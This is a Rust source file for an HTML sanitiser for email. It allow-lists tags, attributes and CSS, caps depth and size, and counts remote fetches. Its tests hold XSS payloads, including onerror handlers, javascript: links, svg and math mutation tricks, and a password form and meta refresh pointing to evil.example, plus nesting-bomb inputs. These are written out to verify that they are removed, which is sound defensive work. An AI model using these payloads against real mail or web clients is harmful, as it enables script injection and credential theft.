//! How is foreign HTML made safe without taking its look?
//!
//! In two passes. The first goes over the tokens and writes only plain, known tags, closed in order and within limits
//! of number and depth, so that the second, which builds a tree, cannot be made to take minutes; it also counts what
//! would be fetched from elsewhere and points pictures at the parts of the mail. The second is the gate: a list of
//! what is allowed, enforced on the tree by a library made for it.

use std::cell::{Cell, RefCell};
use std::collections::{HashMap, HashSet};
use std::sync::LazyLock;

use ammonia::{Builder, UrlRelative};
use html5ever::tendril::StrTendril;
use html5ever::tokenizer::states::RawKind;
use html5ever::tokenizer::{
    BufferQueue, Tag, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts,
};

use crate::Limits;

/// HTML that is safe to show.
#[derive(Debug, Default)]
pub(crate) struct Clean {
    pub html: String,
    pub remote_removed: usize,
    pub is_cut: bool,
    /// Indexes of the parts that are shown as pictures.
    pub shown: Vec<usize>,
}

/// Makes HTML safe. `part` says which part has a content id.
pub(crate) fn clean(source: &str, part: &dyn Fn(&str) -> Option<usize>, limits: &Limits) -> Clean {
    let end = source.floor_char_boundary(limits.html);
    let rewriting = Rewriting { part, limits, state: RefCell::default() };
    let (rewriting, is_whole) = tokens(&source[..end], rewriting);
    let mut state = rewriting.state.into_inner();
    state.close_down_to(0);
    let html = GATE.clean(&state.out).to_string();
    Clean {
        is_cut: state.is_cut || !is_whole || end < source.len(),
        html,
        remote_removed: state.remote,
        shown: state.shown,
    }
}

/// Points the pictures that came with a mail to where they can be fetched. `address` gives it for an index of
/// [`crate::Mail::parts`].
pub fn with_pictures(html: &str, address: impl Fn(usize) -> String) -> String {
    let mut out = String::with_capacity(html.len());
    let mut rest = html;
    // Sanitised HTML has no `<` in texts but as `&lt;`, and no `"` in values but as `&quot;`.
    while let Some((before, tag)) = rest.split_once("<img ") {
        out.push_str(before);
        out.push_str("<img ");
        let end = end_of_tag(tag);
        out.push_str(&pointed(&tag[..end], &address));
        rest = &tag[end..];
    }
    out + rest
}

fn end_of_tag(tag: &str) -> usize {
    let mut is_in_value = false;
    let end = tag.bytes().position(|byte| {
        is_in_value ^= byte == b'"';
        byte == b'>' && !is_in_value
    });
    end.unwrap_or(tag.len())
}

fn pointed(attributes: &str, address: &impl Fn(usize) -> String) -> String {
    let Some((before, after)) = attributes.split_once("src=\"cid:") else { return attributes.to_string() };
    let Some((index, after)) = after.split_once('"') else { return attributes.to_string() };
    let address = index.parse().map(address).unwrap_or_default();
    format!(
        "{before}src=\"{}\"{after}",
        address.replace('&', "&amp;").replace('"', "&quot;").replace('<', "&lt;")
    )
}

/// Feeds the tokens of `source` to a sink. Whether all could be: a tag with ever more attributes, each of which is
/// compared with all before, ends it.
pub(crate) fn tokens<S: TokenSink>(source: &str, sink: S) -> (S, bool) {
    let tokenizer = Tokenizer::new(Counting { sink, tokens: Cell::new(0) }, TokenizerOpts::default());
    let (mut rest, mut separators) = (source, 0);
    while !rest.is_empty() && separators <= MOST_ATTRIBUTES {
        let (stretch, after) = rest.split_at(rest.ceil_char_boundary(STRETCH));
        rest = after;
        let input = BufferQueue::default();
        input.push_back(StrTendril::from_slice(stretch));
        // A sink that runs no scripts never interrupts.
        let _ = tokenizer.feed(&input);
        let tokens = tokenizer.sink.tokens.replace(0);
        separators =
            if tokens > 0 { 0 } else { separators + stretch.bytes().filter(separates_attributes).count() };
    }
    tokenizer.end();
    (tokenizer.sink.sink, rest.is_empty())
}

/// How much is read between two looks at how many attributes there may be.
const STRETCH: usize = 1024;
const MOST_ATTRIBUTES: usize = 10_000;

#[expect(clippy::trivially_copy_pass_by_ref, reason = "the shape of a filter")]
fn separates_attributes(byte: &u8) -> bool {
    byte.is_ascii_whitespace() || matches!(byte, b'/' | b'"' | b'\'')
}

/// Counts what a sink is told, but for faults.
struct Counting<S> {
    sink: S,
    tokens: Cell<usize>,
}

impl<S: TokenSink> TokenSink for Counting<S> {
    type Handle = S::Handle;

    fn process_token(&self, token: Token, line: u64) -> TokenSinkResult<S::Handle> {
        if !matches!(token, Token::ParseError(_)) {
            self.tokens.set(self.tokens.get() + 1);
        }
        self.sink.process_token(token, line)
    }
}

/// The longest stretch of text in one node, and the longest value: the library that writes the tree looks through the
/// rest of a text for each `&` in it, which in a text of megabytes takes minutes.
const LONGEST_TEXT: usize = 16 * 1024;
const LONGEST_VALUE: usize = 8 * 1024;

/// Tags that carry the look of a mail. None of them changes how what follows is read.
const TAGS: [&str; 61] = [
    "a",
    "abbr",
    "address",
    "b",
    "bdi",
    "big",
    "blockquote",
    "br",
    "caption",
    "center",
    "cite",
    "code",
    "col",
    "colgroup",
    "dd",
    "del",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "font",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "mark",
    "ol",
    "p",
    "pre",
    "q",
    "s",
    "samp",
    "section",
    "small",
    "span",
    "strike",
    "strong",
    "sub",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "tr",
    "tt",
    "u",
    "ul",
    "var",
];

/// Tags without content.
const EMPTY: [&str; 4] = ["br", "col", "hr", "img"];

/// Attributes that carry the look, wherever they stand.
const ATTRIBUTES: [&str; 23] = [
    "align",
    "alt",
    "bgcolor",
    "border",
    "cellpadding",
    "cellspacing",
    "color",
    "colspan",
    "dir",
    "face",
    "height",
    "href",
    "lang",
    "nowrap",
    "rowspan",
    "size",
    "src",
    "start",
    "style",
    "title",
    "type",
    "valign",
    "width",
];

/// Properties of CSS that cannot leave their place and fetch nothing.
const PROPERTIES: [&str; 66] = [
    "background",
    "background-color",
    "border",
    "border-bottom",
    "border-bottom-color",
    "border-bottom-style",
    "border-bottom-width",
    "border-collapse",
    "border-color",
    "border-left",
    "border-left-color",
    "border-left-style",
    "border-left-width",
    "border-radius",
    "border-right",
    "border-right-color",
    "border-right-style",
    "border-right-width",
    "border-spacing",
    "border-style",
    "border-top",
    "border-top-color",
    "border-top-style",
    "border-top-width",
    "border-width",
    "caption-side",
    "color",
    "direction",
    "empty-cells",
    "font",
    "font-family",
    "font-size",
    "font-style",
    "font-variant",
    "font-weight",
    "height",
    "letter-spacing",
    "line-height",
    "list-style",
    "list-style-position",
    "list-style-type",
    "margin",
    "margin-bottom",
    "margin-left",
    "margin-right",
    "margin-top",
    "max-width",
    "min-width",
    "padding",
    "padding-bottom",
    "padding-left",
    "padding-right",
    "padding-top",
    "page-break-after",
    "page-break-before",
    "table-layout",
    "text-align",
    "text-decoration",
    "text-indent",
    "text-transform",
    "vertical-align",
    "white-space",
    "width",
    "word-break",
    "word-spacing",
    "word-wrap",
];

/// Tags whose content is never shown and is read as raw text.
fn raw_kind(name: &str) -> Option<RawKind> {
    match name {
        "script" => Some(RawKind::ScriptData),
        "style" | "xmp" | "iframe" | "noembed" | "noframes" => Some(RawKind::Rawtext),
        "title" | "textarea" => Some(RawKind::Rcdata),
        _ => None,
    }
}

static GATE: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut gate = Builder::empty();
    gate.tags(HashSet::from(TAGS))
        .generic_attributes(HashSet::from(ATTRIBUTES))
        .tag_attributes(HashMap::new())
        .url_schemes(HashSet::from(["http", "https", "mailto", "tel", "cid", "data"]))
        .url_relative(UrlRelative::Deny)
        .link_rel(Some("noopener noreferrer nofollow"))
        .set_tag_attribute_value("a", "target", "_blank")
        .attribute_filter(|tag, attribute, value| match attribute {
            "href" => (tag == "a" && leads_somewhere(value)).then(|| value.into()),
            "src" => (tag == "img" && is_sent_along(value)).then(|| value.into()),
            "style" => Some(safe_style(value).into()),
            _ => Some(value.into()),
        });
    gate
});

fn leads_somewhere(value: &str) -> bool {
    let value = value.trim_start().to_ascii_lowercase();
    ["http://", "https://", "mailto:", "tel:"].iter().any(|scheme| value.starts_with(scheme))
}

fn is_sent_along(value: &str) -> bool {
    let index = value.strip_prefix("cid:").map(|it| it.bytes().all(|byte| byte.is_ascii_digit()));
    index.unwrap_or_else(|| is_picture_in_place(value))
}

fn is_picture_in_place(value: &str) -> bool {
    let is_encoded =
        |text: &str| text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"+/= \r\n".contains(&byte));
    let form_and_content = value.strip_prefix("data:image/").and_then(|it| it.split_once(";base64,"));
    form_and_content.is_some_and(|(form, content)| {
        matches!(form, "png" | "gif" | "jpeg" | "jpg" | "webp") && is_encoded(content)
    })
}

/// The declarations of a style that are on the list, with values made of harmless characters only.
fn safe_style(style: &str) -> String {
    let declarations = style.split(';').filter_map(|declaration| declaration.split_once(':'));
    let safe = declarations.filter_map(|(property, value)| {
        let property = property.trim().to_ascii_lowercase();
        let is_safe = PROPERTIES.contains(&property.as_str()) && is_safe_value(value);
        is_safe.then(|| format!("{property}: {}", value.trim()))
    });
    safe.collect::<Vec<_>>().join("; ")
}

/// Words, numbers, colours and names of fonts; of functions only those of colours. A negative length could lay the
/// content over its surroundings.
fn is_safe_value(value: &str) -> bool {
    let is_harmless = |c: char| c.is_alphanumeric() || c == ' ' || "#%.,()'\"!+-/".contains(c);
    let opens = value.match_indices('(').all(|(at, _)| {
        let before = value[..at].to_ascii_lowercase();
        ["rgb", "rgba", "hsl", "hsla"].iter().any(|function| before.ends_with(function))
    });
    let is_negative = value
        .split([' ', ','])
        .any(|word| word.starts_with('-') && word.len() > 1 && word.as_bytes()[1] != b'-');
    value.len() < 500 && value.chars().all(is_harmless) && opens && !is_negative
}

struct Rewriting<'a> {
    part: &'a dyn Fn(&str) -> Option<usize>,
    limits: &'a Limits,
    state: RefCell<State>,
}

#[derive(Default)]
struct State {
    out: String,
    /// Names of the open tags.
    open: Vec<String>,
    elements: usize,
    remote: usize,
    is_cut: bool,
    shown: Vec<usize>,
    /// Bytes of text since the last tag.
    in_node: usize,
    /// The raw tag whose content is being read over.
    raw: Option<String>,
    /// Depth of drawings and formulas, which are not shown.
    hidden: usize,
}

impl TokenSink for Rewriting<'_> {
    type Handle = ();

    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
        let mut state = self.state.borrow_mut();
        match token {
            Token::CharacterTokens(text) => state.text(&text, self.limits.html),
            Token::TagToken(tag) if tag.kind == TagKind::StartTag => return self.start(&mut state, &tag),
            Token::TagToken(tag) => state.end(&tag.name),
            _ => {}
        }
        TokenSinkResult::Continue
    }
}

impl Rewriting<'_> {
    fn start(&self, state: &mut State, tag: &Tag) -> TokenSinkResult<()> {
        let name: &str = &tag.name;
        state.elements += 1;
        state.remote += remote_in(tag);
        if let Some(kind) = raw_kind(name) {
            state.raw = Some(name.to_string());
            return TokenSinkResult::RawData(kind);
        }
        if matches!(name, "svg" | "math" | "object" | "applet" | "select" | "template") {
            state.hidden += usize::from(!tag.self_closing);
        }
        if state.hidden > 0 || !TAGS.contains(&name) {
            return TokenSinkResult::Continue;
        }
        state.close_implied(name);
        let is_empty = EMPTY.contains(&name);
        let is_too_deep = !is_empty && state.open.len() >= self.limits.html_nesting;
        if is_too_deep || state.elements > self.limits.html_elements || state.out.len() > self.limits.html {
            state.is_cut = true;
            return TokenSinkResult::Continue;
        }
        state.in_node = 0;
        state.out.push('<');
        state.out.push_str(name);
        let is_tight = is_of_an_office_program(tag);
        for attribute in &tag.attrs {
            let is_style = &*attribute.name.local == "style";
            let margin = if is_tight && is_style { TIGHT } else { "" };
            self.attribute(state, name, &attribute.name.local, &format!("{margin}{}", attribute.value));
        }
        if is_tight && !tag.attrs.iter().any(|attribute| &*attribute.name.local == "style") {
            self.attribute(state, name, "style", TIGHT);
        }
        state.out.push('>');
        if !is_empty {
            state.open.push(name.to_string());
        }
        TokenSinkResult::Continue
    }

    fn attribute(&self, state: &mut State, tag: &str, name: &str, value: &str) {
        if !ATTRIBUTES.contains(&name) {
            return;
        }
        let mut value = value.to_string();
        if tag == "img" && name == "src" {
            let Some(source) = self.picture(state, value.trim()) else { return };
            value = source;
        } else if value.len() > LONGEST_VALUE {
            return;
        }
        let value =
            value.replace('&', "&amp;").replace('"', "&quot;").replace('<', "&lt;").replace('>', "&gt;");
        state.out.extend([" ", name, "=\"", &value, "\""]);
    }

    fn picture(&self, state: &mut State, source: &str) -> Option<String> {
        let Some(id) = source.get(..4).filter(|it| it.eq_ignore_ascii_case("cid:")).and(source.get(4..))
        else {
            return is_picture_in_place(source).then(|| source.to_string());
        };
        let index = (self.part)(id)?;
        state.shown.push(index);
        Some(format!("cid:{index}"))
    }
}

impl State {
    fn text(&mut self, text: &str, most: usize) {
        if let Some(raw) = &self.raw {
            self.remote += if raw == "style" { remote_in_style(text) } else { 0 };
            return;
        }
        if self.hidden > 0 {
            return;
        }
        for c in text.chars() {
            if self.out.len() >= most {
                self.is_cut = true;
                return;
            }
            match c {
                '&' => self.out.push_str("&amp;"),
                '<' => self.out.push_str("&lt;"),
                '>' => self.out.push_str("&gt;"),
                c => self.out.push(c),
            }
            self.in_node += c.len_utf8();
            if self.in_node > LONGEST_TEXT {
                // The gate takes the comment away, but the texts beside it stay two.
                self.out.push_str("<!---->");
                self.in_node = 0;
            }
        }
    }

    fn end(&mut self, name: &str) {
        if self.raw.as_deref() == Some(name) {
            self.raw = None;
        } else if matches!(name, "svg" | "math" | "object" | "applet" | "select" | "template") {
            self.hidden = self.hidden.saturating_sub(1);
        } else if self.hidden == 0
            && let Some(at) = self.open.iter().rposition(|open| open == name)
        {
            // A cell or a list ends what is open in it, but nothing in it ends the cell.
            let is_fenced =
                self.open[at + 1..].iter().any(|open| matches!(open.as_str(), "table" | "td" | "th"));
            if !is_fenced || matches!(name, "table" | "tr" | "tbody" | "thead" | "tfoot") {
                self.close_down_to(at);
            }
        }
    }

    /// Tags whose end may be left out end where the next of their kind begins (HTML, 13.1.2.4).
    fn close_implied(&mut self, name: &str) {
        let (ends, fences): (&[&str], &[&str]) = match name {
            "li" => (&["li"], &["ul", "ol", "table"]),
            "dt" | "dd" => (&["dt", "dd"], &["dl", "table"]),
            "td" | "th" => (&["td", "th"], &["table"]),
            "tr" => (&["tr"], &["table"]),
            "tbody" | "thead" | "tfoot" => (&["tbody", "thead", "tfoot"], &["table"]),
            "p" => (&["p"], &["td", "th", "div", "blockquote", "li", "table", "section", "dd"]),
            _ => return,
        };
        let near = self.open.iter().rposition(|open| ends.contains(&&**open) || fences.contains(&&**open));
        if let Some(at) = near.filter(|&at| ends.contains(&&*self.open[at])) {
            self.close_down_to(at);
        }
    }

    fn close_down_to(&mut self, depth: usize) {
        while self.open.len() > depth {
            if let Some(name) = self.open.pop() {
                self.in_node = 0;
                self.out.extend(["</", &name, ">"]);
            }
        }
    }
}

/// Office programs end each line as a paragraph and take the distance away in a style sheet, which is not kept.
fn is_of_an_office_program(tag: &Tag) -> bool {
    let class = tag.attrs.iter().find(|attribute| &*attribute.name.local == "class");
    &*tag.name == "p" && class.is_some_and(|class| class.value.starts_with("Mso"))
}

const TIGHT: &str = "margin: 0; ";

/// How many things a tag would fetch from elsewhere.
fn remote_in(tag: &Tag) -> usize {
    let fetches = |name: &str, value: &str| match name {
        "src" | "srcset" | "background" | "poster" | "data" | "lowsrc" | "dynsrc" => is_remote(value),
        "href" | "xlink:href" => {
            matches!(&*tag.name, "link" | "image" | "use" | "feimage") && is_remote(value)
        }
        _ => false,
    };
    let attributes = tag.attrs.iter();
    attributes
        .map(|attribute| match &*attribute.name.local {
            "style" => remote_in_style(&attribute.value),
            name => usize::from(fetches(name, &attribute.value)),
        })
        .sum()
}

fn is_remote(value: &str) -> bool {
    let value = value.trim_start().to_ascii_lowercase();
    ["http:", "https:", "//", "ftp:"].iter().any(|scheme| value.starts_with(scheme))
}

fn remote_in_style(style: &str) -> usize {
    let style = style.to_ascii_lowercase();
    let addresses = style.split("url(").skip(1);
    let imports = style.matches("@import").count() - style.matches("@import url(").count();
    addresses.filter(|after| is_remote(after.trim_start_matches(['"', '\'', ' ']))).count() + imports
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cleaned(source: &str) -> Clean {
        clean(source, &|id| (id == "leak@x").then_some(3), &Limits::default())
    }

    #[test]
    fn what_could_act_is_gone() {
        let hostile = [
            "<script>alert(1)</script>a",
            "<img src=x onerror=alert(1)>a",
            "<a href='java\nscript:alert(1)'>a</a>",
            "<svg><script>alert(1)</script></svg>a",
            "<svg><style><img src=x onerror=alert(1)></style></svg>a",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<iframe srcdoc='<script>alert(1)</script>'></iframe>a",
            "<form action=http://evil.example><input name=password><button formaction=javascript:a()>a</form>",
            "<base href=http://evil.example><meta http-equiv=refresh content='0;url=http://evil.example'>a",
            "<p style='background:url(http://evil.example/x);position:fixed;top:0'>a</p>",
            "<p style='width: expression(alert(1))'>a</p>",
            "<p style='color: re\\64; background: u\\72l(http://evil.example)'>a</p>",
            "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>a",
            "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
            "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
            "<template><img src=x onerror=alert(1)></template>a",
            "<!--[if mso]><script>alert(1)</script><![endif]-->a",
            "<div style='margin-top:-900px'>a</div>",
        ];
        for source in hostile {
            let acting = acting(&cleaned(source).html.to_lowercase());
            for evil in [
                "script",
                "onerror",
                "onload",
                "onclick",
                "evil.example",
                "expression",
                "url(",
                "position",
                "-900",
                "svg",
                "form",
                "iframe",
                "base",
                "meta",
                "data:",
                "style",
            ] {
                assert!(!acting.iter().any(|it| it.contains(evil)), "{source} left {evil} in {acting:?}");
            }
        }
    }

    /// Names of tags and attributes and the values that do something: in texts everything is harmless.
    fn acting(html: &str) -> Vec<String> {
        let mut acting = Vec::new();
        for tag in html.split('<').skip(1) {
            let mut pieces = tag.split('>').next().unwrap_or_default().split('"');
            while let Some(names) = pieces.next() {
                acting.push(names.replace("style=", ""));
                let value = pieces.next().unwrap_or_default();
                if names.ends_with("href=") || names.ends_with("src=") || names.ends_with("style=") {
                    acting.push(value.to_string());
                }
            }
        }
        acting
    }

    #[test]
    fn the_look_survives() {
        let it =
            cleaned("<p style='color:#1F497D; font-family:\"Calibri\",sans-serif; margin:0cm'><b>Hi</b></p>");
        assert_eq!(
            it.html,
            "<p style=\"color: #1F497D; font-family: &quot;Calibri&quot;,sans-serif; margin: 0cm\"><b>Hi</b></p>"
        );
    }

    #[test]
    fn lines_of_office_programs_stay_close() {
        let it = cleaned("<p class=MsoNormal style='color:red'>a</p><p class=MsoNormal>b</p><p>c</p>");
        assert_eq!(it.html, "<p style=\"margin: 0; color: red\">a</p><p style=\"margin: 0\">b</p><p>c</p>");
    }

    #[test]
    fn pictures_of_the_mail_stay_and_those_from_elsewhere_go() {
        let it = cleaned(
            "<img src='CID:leak@x'><img src='http://t.example/p.gif'><img src='cid:none'><td background=//t.example>",
        );
        assert_eq!(it.html.matches("src=").count(), 1);
        assert!(it.html.contains("src=\"cid:3\""), "{}", it.html);
        assert_eq!((it.remote_removed, it.shown), (2, vec![3]));
    }

    #[test]
    fn styles_that_fetch_are_counted() {
        let it = cleaned(
            "<style>@import 'x.css'; b{background:url( 'http://t.example/a')}</style><p style='background:url(https://t.example/b)'>x",
        );
        assert_eq!(it.remote_removed, 3);
    }

    #[test]
    fn a_picture_is_pointed_to_its_address_and_a_text_is_not() {
        let html = "<img alt=\"a &lt;\" src=\"cid:2\"> &lt;img src=\"cid:1\"&gt;";
        assert_eq!(
            with_pictures(html, |index| format!("/parts/{index}?a&b")),
            "<img alt=\"a &lt;\" src=\"/parts/2?a&amp;b\"> &lt;img src=\"cid:1\"&gt;"
        );
    }

    #[test]
    fn links_open_apart_and_tell_nobody() {
        let html = cleaned("<a href=https://x.example/ onclick=a()>x</a>").html;
        assert!(html.contains("target=\"_blank\"") && html.contains("noreferrer"), "{html}");
    }

    #[test]
    fn unbounded_depth_and_number_are_cut() {
        for bomb in ["<div>", "<b>", "<table><tr><td>", "<font a=1><p>", "<li>", "<svg><td>", "<p>"] {
            let it = cleaned(&bomb.repeat(300_000));
            assert!(it.html.len() < 10_000_000, "{bomb}");
        }
        assert!(cleaned(&"<div>".repeat(1000)).is_cut);
    }

    #[test]
    fn an_unclosed_paragraph_ends_where_the_next_begins() {
        assert_eq!(
            cleaned("<p>a<p><b>b</p>c<ul><li>d<li>e</ul>").html,
            "<p>a</p><p><b>b</b></p>c<ul><li>d</li><li>e</li></ul>"
        );
    }
}
